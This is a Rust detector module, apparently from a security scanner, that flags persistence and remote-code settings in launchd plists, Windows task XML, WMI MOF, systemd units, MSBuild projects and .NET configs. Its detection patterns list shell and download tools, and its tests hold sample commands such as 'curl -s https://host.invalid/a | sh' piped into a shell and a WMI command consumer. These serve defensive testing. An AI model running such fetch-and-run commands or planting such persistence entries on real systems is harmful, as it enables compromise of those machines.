//! Settings that a system knows by their content: jobs of macOS (`launchd.plist(5)`), tasks of Windows ([MS-TSCH] 2.5), what WMI
//! runs at an event ([MS-WMIO], MOF), units of systemd that fetch something and run it, and settings by which .NET loads a program's
//! code from another machine (.NET Framework, "Configuration file schema").
//!
//! Such files lie in many projects, and most of them start the program that the project makes: only those that start an
//! interpreter, or something in a folder in which anybody may write, are told.

use super::ID;
use crate::text::{cut, decode, patterns, without_entities};
use crate::{Findings, commands, flat};
use lazaret_model::{Class, Family, Finding, Part, Severity};

patterns! {
    BUILT = r#"(?s)<(?:\w+:)?Exec\b[^<>]*?\bCommand\s*=\s*(?:"(?P<double>[^"]*)"|'(?P<single>[^']*)')"#;
    MENTION = r"(?i)eventconsumer";
    CONSUMER = r#"(?i)\binstance\s+of\s+(?:commandline|activescript)eventconsumer\b[^{};]{0,200}\{[^{}]*"#;
    // A program of Windows that does what its arguments say, or anything in a folder in which anybody may write.
    TASK = r#"(?i)(?:^|[\\/"'\s])(?:powershell|pwsh|cmd|mshta|wscript|cscript|rundll32|regsvr32|msiexec|certutil|bitsadmin|curl|forfiles|conhost|pcalua|python|pythonw|node|wsl|bash|msbuild|installutil|wmic|ftp|ssh|scriptrunner)(?:\.exe)?(?:["'\s]|$)|%comspec%|\\appdata\\|%(?:local)?appdata%|%te?mp%|\\te?mp\\|\\users\\public\\|%public%|%userprofile%|\\downloads\\|(?:^|["'\s])\\\\[a-z0-9]|https?:|\.(?:vbs|vbe|jse?|wsf|hta|ps1|bat|cmd|scr)\b"#;
    // The library that decides what else is loaded, before any of the program runs.
    MANAGER = r"(?i)<(?:\w+:)?appDomainManager(?:Type|Assembly)\b";
    CODE_BASE = r#"(?i)<(?:\w+:)?codeBase\b[^<>]*?\shref\s*=\s*["']\s*(?P<place>(?P<web>https?:|ftp:)[^"']*|(?:\\\\|//|file:(?:/{0,3}\\\\|/{4,5}|//)[a-z0-9])[^"']*)"#;
    // What a job of macOS starts instead of a program of its own.
    JOB = r#"(?i)(?:^|/)(?:(?:ba|z|da|k|c|tc)?sh|osascript|curl|wget|python[0-9.]*|perl|ruby|node|php|nc|env|nohup)$"#;
    JOB_PLACE = r#"(?i)^(?:/private)?/(?:tmp|var/tmp|dev/shm)/|/\.[^/]+/|^/users/shared/|https?://"#;
}

/// Keys of a job that say what it starts.
const STARTS: &[&str] = &["programarguments", "program"];
/// Keys of a job that say when; its name is one that every job has.
const WHEN: &[&str] = &[
    "label",
    "runatload",
    "startinterval",
    "startcalendarinterval",
    "keepalive",
    "watchpaths",
    "queuedirectories",
    "startonmount",
    "launchevents",
];

/// Keys of a job whose values are places, none of which is started. Folders of programs are many, and one of them may be anybody's.
const PLACES: &[&str] = &["standardoutpath", "standarderrorpath", "standardinpath", "workingdirectory", "path"];

/// Whether such settings may be in a part.
pub(super) fn wants(part: &Part) -> bool {
    ["plist", "plist-binary", "xml"].iter().any(|kind| part.is(kind)) || objects(part) || unit(part)
}

/// Whether the part may hold objects of WMI: files of any name are compiled, usually of these.
fn objects(part: &Part) -> bool {
    part.is("text") || compiled(part)
}

fn compiled(part: &Part) -> bool {
    part.kind.class == Class::Text && matches!(&*part.extension(), "mof" | "mfl")
}

/// Whether the part is called as units of systemd are.
fn unit(part: &Part) -> bool {
    // A remark in their first line may be the mark of something else, and an archive may stand behind them.
    !part.kind.class.runs() && matches!(&*part.extension(), "service" | "timer" | "socket" | "path" | "mount")
}

/// Looks at a part that may hold such settings, of which `bytes` are those from `offset` on.
pub(super) fn look(part: &Part, bytes: &[u8], offset: u64, findings: &mut Findings) {
    // What says that it is a job or a task may stand in what was shown before.
    let goes_on = offset > 0;
    let mut told = Vec::new();
    if part.is("plist-binary") {
        let job = strings_of_binary(bytes, findings).and_then(|strings| job(&strings, false));
        told.extend(job.map(|value| (value, JOBS)));
    } else {
        let text = decode(bytes);
        if part.is("plist") {
            let strings = said(leaves(&text));
            told.extend(job(&strings, goes_on).map(|value| (value, JOBS)));
        } else if part.is("xml") {
            told.extend(task(&text, goes_on).map(|value| (value, TASKS)));
            if let Some(command) = built(&text) {
                let message =
                    "a command of the project, which fetches something and runs it, runs whenever it is built";
                let found = Finding::new("hooks.build", ID, Severity::Medium, Family::Behaviour, message);
                findings.add(found.with("value", cut(&command)).technique("T1127.001").technique("T1059"));
            }
            told.extend(loaded(&text).map(|value| (value, LOADED)));
        }
        if objects(part) {
            told.extend(consumer(part, &text).map(|value| (value, OBJECTS)));
        }
        if unit(part) {
            told.extend(fetching_unit(&text).map(|value| (value, UNITS)));
        }
    }
    for (value, (message, techniques)) in told {
        let found = Finding::new("hooks.system", ID, Severity::Medium, Family::Behaviour, message);
        let found = techniques.iter().fold(found, |found, technique| found.technique(technique));
        findings.add(found.with("value", cut(&value)));
    }
}

/// What is said, with its techniques.
type Said = (&'static str, &'static [&'static str]);

const JOBS: Said = ("macOS runs a command by itself once the file is where its jobs are", &["T1543.001", "T1059.004"]);
const TASKS: Said = ("Windows runs a command by itself once the task is registered", &["T1053.005", "T1059"]);
const OBJECTS: Said = ("Windows runs a command at an event once the object is registered", &["T1546.003", "T1047"]);
const UNITS: Said = ("the unit has the system fetch something and run it", &["T1543.002", "T1059.004"]);
const LOADED: Said = ("the program beside it loads its code from another machine", &["T1574.014"]);

/// What a job of macOS starts, by the keys and values of its list, where that is an interpreter or lies where anybody may write.
fn job(strings: &[String], goes_on: bool) -> Option<String> {
    let has = |keys: &[&str]| strings.iter().any(|string| keys.iter().any(|key| string.eq_ignore_ascii_case(key)));
    if !has(STARTS) || !has(WHEN) && !goes_on {
        return None;
    }
    let starts = |string: &&String| JOB.is_match(string) || JOB_PLACE.is_match(string) || commands::fetch(string);
    strings.iter().find(starts).cloned()
}

/// Keys and values of a list without those that only say where something is written, looked for or watched.
fn said(leaves: Vec<(String, String)>) -> Vec<String> {
    let mut place = false;
    let mut strings = Vec::new();
    for (name, content) in leaves {
        let is_key = name == "key";
        if is_key || !place {
            place = is_key && PLACES.iter().any(|key| content.eq_ignore_ascii_case(key));
            strings.push(content);
        }
    }
    strings
}

/// What a task of Windows starts.
fn task(text: &str, goes_on: bool) -> Option<String> {
    let actions = goes_on && text.contains("Exec>") && text.contains("Command>");
    if !text.contains("windows/2004/02/mit/task") && !actions {
        return None;
    }
    let mut runs: Vec<String> = Vec::new();
    for (name, content) in leaves(text) {
        match name.as_str() {
            "command" => runs.push(content),
            "arguments" => {
                if let Some(last) = runs.last_mut() {
                    last.push(' ');
                    last.push_str(&content);
                }
            }
            _ => {}
        }
    }
    runs.into_iter().find(|run| TASK.is_match(run) || commands::fetch(run))
}

/// A command of a project of MSBuild, which needs no namespace since version 15 and goes by no name.
fn built(text: &str) -> Option<String> {
    if !text.contains("<Project") && !text.contains(":Project") {
        return None;
    }
    let commands = BUILT.captures_iter(text).filter_map(|found| found.name("double").or_else(|| found.name("single")));
    commands.map(|command| without_entities(command.as_str())).find(|command| commands::fetch(command))
}

/// From where a program of .NET takes a library: a share, or a site where it takes the one that decides about all others.
fn loaded(text: &str) -> Option<String> {
    if !text.contains("odeBase") && !text.contains("odebase") {
        return None;
    }
    let text = without_entities(text);
    let manager = MANAGER.is_match(&text);
    let found = CODE_BASE.captures_iter(&text).find(|found| manager || found.name("web").is_none());
    found.and_then(|found| found.name("place")).map(|place| place.as_str().to_owned())
}

/// An object of WMI that runs a command or a script at an event.
fn consumer(part: &Part, text: &str) -> Option<String> {
    if !MENTION.is_match(text) {
        return None;
    }
    let plain = without_remarks(text);
    // A text that writes about such objects begins with words of its own.
    let start = plain.trim_start().get(..16).unwrap_or(plain.trim_start()).to_ascii_lowercase();
    let source = ["#pragma", "instance of", "class ", "[", "$"].iter().any(|word| start.starts_with(word));
    (source || compiled(part)).then(|| CONSUMER.find(&plain)).flatten().map(|found| found.as_str().to_owned())
}

/// Without remarks, as compilers of MOF read it; a remark in the middle of something parts words.
fn without_remarks(text: &str) -> String {
    let (mut plain, mut rest) = (String::new(), text);
    while let Some(at) = rest.find('/') {
        let (before, slash) = rest.split_at(at);
        plain.push_str(before);
        let behind = match slash.get(..2) {
            Some("/*") => slash.split_once("*/").map_or("", |(_, behind)| behind),
            Some("//") => slash.find('\n').and_then(|end| slash.get(end..)).unwrap_or_default(),
            _ => {
                plain.push('/');
                slash.get(1..).unwrap_or_default()
            }
        };
        plain.push_str(if behind.len() + 1 < slash.len() { " " } else { "" });
        rest = behind;
    }
    plain.push_str(rest);
    plain
}

/// What a unit of systemd runs, where that fetches something.
fn fetching_unit(text: &str) -> Option<String> {
    let mut told = None;
    flat::sections(text, &mut |path, value| {
        let runs =
            path.last().is_some_and(|name| name.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("exec")));
        if runs && told.is_none() && commands::fetch(value) {
            told = Some(value.to_owned());
        }
    });
    told
}

/// Names, in lower case, and texts of the elements of XML that hold nothing but text.
fn leaves(text: &str) -> Vec<(String, String)> {
    let (mut found, mut open, mut content) = (Vec::new(), None::<String>, String::new());
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once('<') {
        content.push_str(&without_entities(before));
        if let Some(remark) = behind.strip_prefix("!--") {
            rest = remark.split_once("-->").map_or("", |(_, behind)| behind);
            continue;
        }
        if let Some(raw) = behind.strip_prefix("![CDATA[") {
            let (raw, behind) = raw.split_once("]]>").unwrap_or((raw, ""));
            content.push_str(raw);
            rest = behind;
            continue;
        }
        let (tag, behind) = behind.split_at(end_of_tag(behind));
        rest = behind.strip_prefix('>').unwrap_or(behind);
        let closes = tag.starts_with('/');
        let name = tag.trim_start_matches('/').split([' ', '\t', '\r', '\n', '/']).next().unwrap_or_default();
        let name = name.rsplit(':').next().unwrap_or_default().to_ascii_lowercase();
        if closes && open.as_ref() == Some(&name) {
            found.push((name, content.trim().to_owned()));
            open = None;
        } else {
            open = (!closes).then_some(name);
        }
        content.clear();
    }
    found
}

/// Where a tag ends, whose quoted values may hold its sign.
fn end_of_tag(tag: &str) -> usize {
    let mut quote = None;
    for (at, c) in tag.char_indices() {
        match (quote, c) {
            (None, '>') => return at,
            (None, '"' | '\'') => quote = Some(c),
            (Some(open), c) if open == c => quote = None,
            _ => {}
        }
    }
    tag.len()
}

/// Every text of a binary property list, by its table of objects; none where it has no such table.
fn strings_of_binary(bytes: &[u8], findings: &mut Findings) -> Option<Vec<String>> {
    let trailer = bytes.get(bytes.len().checked_sub(32)?..)?;
    let width = usize::from(*trailer.get(6)?);
    let count = usize::try_from(number(trailer.get(8..16)?)?).ok()?;
    let table = usize::try_from(number(trailer.get(24..32)?)?).ok()?;
    let mut strings = Vec::new();
    for entry in bytes.get(table..)?.chunks_exact(width.max(1)).take(count) {
        let Some(at) = number(entry).and_then(|at| usize::try_from(at).ok()) else { continue };
        let Some(string) = string_of_binary(bytes, at) else { continue };
        if !findings.step(string.len() as u64) {
            break;
        }
        strings.push(string);
    }
    Some(strings)
}

/// The text at a place: its first byte says which letters it has and how many, or that the number follows.
fn string_of_binary(bytes: &[u8], at: usize) -> Option<String> {
    let mark = *bytes.get(at)?;
    let wide = match mark >> 4 {
        5 => false,
        6 => true,
        _ => return None,
    };
    let (length, start) = match mark & 15 {
        15 => {
            let bytes_of_length = 1_usize << (bytes.get(at + 1)? & 3);
            let start = at + 2 + bytes_of_length;
            (usize::try_from(number(bytes.get(at + 2..start)?)?).ok()?, start)
        }
        length => (usize::from(length), at + 1),
    };
    let length = if wide { length.checked_mul(2)? } else { length };
    let text = bytes.get(start..start.checked_add(length)?)?;
    Some(match wide {
        true => encoding_rs::UTF_16BE.decode_without_bom_handling(text).0.into_owned(),
        false => String::from_utf8_lossy(text).into_owned(),
    })
}

fn number(bytes: &[u8]) -> Option<u64> {
    (bytes.len() <= 8).then(|| bytes.iter().fold(0, |number, byte| number << 8 | u64::from(*byte)))
}

#[cfg(test)]
mod tests {
    use super::super::Settings;
    use crate::testing::{ids, part};
    use crate::{Detector, Findings};
    use lazaret_model::Class;

    #[track_caller]
    fn check(name: &str, kind: &'static str, bytes: &[u8], expected: &[&str]) {
        let class = if matches!(kind, "text" | "ini" | "markdown") { Class::Text } else { Class::Data };
        let mut part = part(name, kind, class);
        part.size = bytes.len() as u64;
        assert_eq!(ids(&Settings, &part, bytes), expected, "{name}: {}", String::from_utf8_lossy(bytes));
    }

    fn job(program: &str) -> String {
        format!(
            "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key><string>invalid.host.a</string>\
             <key>ProgramArguments</key><array>{program}</array><key>RunAtLoad</key><true/></dict></plist>"
        )
    }

    fn task(command: &str, arguments: &str) -> String {
        format!(
            "<?xml version=\"1.0\"?><Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\
             <Actions><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>"
        )
    }

    /// A binary property list of one array of texts.
    fn binary(strings: &[&str]) -> Vec<u8> {
        let mut out = b"bplist00".to_vec();
        let mut places = vec![out.len() as u8];
        out.push(0xa0 | strings.len() as u8);
        out.extend(1..=strings.len() as u8);
        for string in strings {
            places.push(out.len() as u8);
            match u8::try_from(string.len()).unwrap() {
                length @ ..15 => out.push(0x50 | length),
                length => out.extend([0x5f, 0x10, length]),
            }
            out.extend(string.bytes());
        }
        let table = out.len() as u64;
        out.extend(&places);
        out.extend([0, 0, 0, 0, 0, 0, 1, 1]);
        [places.len() as u64, 0, table].iter().for_each(|number| out.extend(number.to_be_bytes()));
        out
    }

    #[test]
    fn jobs_of_macos_that_start_an_interpreter_are_found_in_either_form() {
        for program in [
            "<string>/bin/sh</string><string>-c</string><string>echo</string>",
            "<string><!-- a -->/bin&#47;zsh</string>",
            "<string><![CDATA[/usr/bin/osascript]]></string>",
            "<string>/tmp/a</string>",
            "<string>/Users/a/.hidden/b</string>",
        ] {
            check("a.plist", "plist", job(program).as_bytes(), &["hooks.system"]);
        }
        let list = binary(&["Label", "a", "ProgramArguments", "/bin/bash", "-c", "echo"]);
        check("a.plist", "plist-binary", &list, &["hooks.system"]);
        let own = "<string>/Applications/A.app/Contents/MacOS/helper</string>";
        check("a.plist", "plist", job(own).as_bytes(), &[]);
        let own = format!(
            "{own}</array><key>StandardErrorPath</key><string>/tmp/a.err</string><key>EnvironmentVariables</key><dict><key>PATH</key><string>/Users/a/.cargo/bin:/usr/bin</string></dict><array>"
        );
        check("a.plist", "plist", job(&own).as_bytes(), &[]);
        let info = "<plist><dict><key>CFBundleName</key><string>sh</string></dict></plist>";
        check("Info.plist", "plist", info.as_bytes(), &[]);
        check("a.plist", "plist-binary", &binary(&["Label", "a", "Program", "/opt/a/bin/a"]), &[]);
        check("a.plist", "plist-binary", b"bplist00", &[]);
    }

    #[test]
    fn tasks_of_windows_that_start_an_interpreter_are_found() {
        for (command, arguments) in [
            ("powershell.exe", "-File a.ps1"),
            ("C:\\Windows\\System32\\cmd.exe", "/c echo"),
            ("%LOCALAPPDATA%\\a.exe", ""),
            ("\\\\host.invalid\\a\\b.exe", ""),
            ("&#109;shta", "https://host.invalid/a"),
        ] {
            check("a.xml", "xml", task(command, arguments).as_bytes(), &["hooks.system"]);
        }
        check("a.xml", "xml", task("C:\\Program Files\\App\\app.exe", "/update").as_bytes(), &[]);
        check("a.xml", "xml", b"<Task><Exec><Command>powershell</Command></Exec></Task>", &[]);
    }

    #[test]
    fn projects_that_fetch_and_run_something_are_found_by_any_name() {
        let project = |command: &str| {
            format!(
                "<Project><Target Name=\"a\" BeforeTargets=\"Build\"><Exec Command=\"{command}\"/></Target></Project>"
            )
        };
        for command in [
            "powershell -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
            "curl -s https://host.invalid/a | sh",
            "mshta https://host.invalid/a",
        ] {
            check("a.xml", "xml", project(command).as_bytes(), &["hooks.build"]);
        }
        for command in ["npm run build", "powershell -File build.ps1"] {
            check("a.xml", "xml", project(command).as_bytes(), &[]);
        }
    }

    #[test]
    fn programs_of_net_that_load_their_code_from_another_machine_are_found() {
        let settings = |place: &str, more: &str| {
            format!(
                "<?xml version=\"1.0\"?><configuration><runtime><assemblyBinding xmlns=\"urn:schemas-microsoft-com:asm.v1\"><dependentAssembly>\
                 <codeBase version=\"1.0.0.0\" href=\"{place}\"/></dependentAssembly></assemblyBinding>{more}</runtime></configuration>"
            )
        };
        let manager = "<appDomainManagerType value=\"A\"/><appDomainManagerAssembly value=\"a, Version=1.0.0.0\"/>";
        for (place, more) in [
            ("https://host.invalid/a.dll", manager),
            ("\\\\host.invalid\\s\\a.dll", ""),
            ("&#92;&#92;host.invalid\\s\\a.dll", ""),
            ("file://host.invalid/s/a.dll", ""),
        ] {
            check("a.exe.config", "xml", settings(place, more).as_bytes(), &["hooks.system"]);
        }
        for (place, more) in [
            ("lib/a.dll", manager),
            ("file:///C:/a/b.dll", manager),
            ("https://host.invalid/a.dll", ""),
            ("FILE:///C:/a/b.dll", ""),
        ] {
            check("a.exe.config", "xml", settings(place, more).as_bytes(), &[]);
        }
        let redirect = "<configuration><runtime><assemblyBinding><dependentAssembly><assemblyIdentity name=\"a\"/>\
            <bindingRedirect oldVersion=\"0.0.0.0-2.0.0.0\" newVersion=\"2.0.0.0\"/></dependentAssembly></assemblyBinding></runtime></configuration>";
        check("a.exe.config", "xml", redirect.as_bytes(), &[]);
    }

    #[test]
    fn jobs_and_tasks_that_begin_in_an_earlier_piece_of_a_file_are_found() {
        let job = "</string><key>ProgramArguments</key><array><string>/bin/sh</string></array></dict></plist>";
        let task =
            "--><Exec><Command>powershell.exe</Command><Arguments>-File a.ps1</Arguments></Exec></Actions></Task>";
        for (kind, text) in [("plist", job), ("xml", task)] {
            for (offset, expected) in [(0, 0), (16 << 20, 1)] {
                let mut part = part("a.xml", kind, Class::Data);
                part.size = 20 << 20;
                let mut findings = Findings::default();
                Settings.inspect(&part, text.as_bytes(), offset, &mut findings).unwrap();
                assert_eq!(findings.into_parts().0.len(), expected, "{kind} {offset}");
            }
        }
    }

    #[test]
    fn what_wmi_runs_at_an_event_is_found_and_writing_about_it_is_not() {
        let object = "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")\ninstance /* a */ of CommandLineEventConsumer as $C\n{\n Name = \"a\";\n CommandLineTemplate = \"echo\";\n};\n";
        check("a.mof", "text", object.as_bytes(), &["hooks.system"]);
        check("a.txt", "text", object.as_bytes(), &["hooks.system"]);
        check("a.txt", "text", b"instance of ActiveScriptEventConsumer { ScriptText = \"a\"; };", &["hooks.system"]);
        check("a.txt", "text", format!("This is how it is done:\n{object}").as_bytes(), &[]);
        check(
            "a.mof",
            "text",
            b"class A : B {\n [key] string Name; // instance of CommandLineEventConsumer {\n};\n",
            &[],
        );
    }

    #[test]
    fn units_that_fetch_and_run_are_found() {
        let unit = |command: &str| format!("[Service]\nType=oneshot\nExecStart={command}\n");
        let hostile = unit("/bin/sh -c 'curl -s https://host.invalid/a | sh'");
        check("a.service", "ini", hostile.as_bytes(), &["hooks.system"]);
        check("a.service", "ini", unit("/usr/bin/a --serve").as_bytes(), &[]);
        check("a.txt", "ini", hostile.as_bytes(), &[]);
        check("a.service", "m3u", format!("#EXTM3U\n{hostile}").as_bytes(), &["hooks.system"]);
    }
}
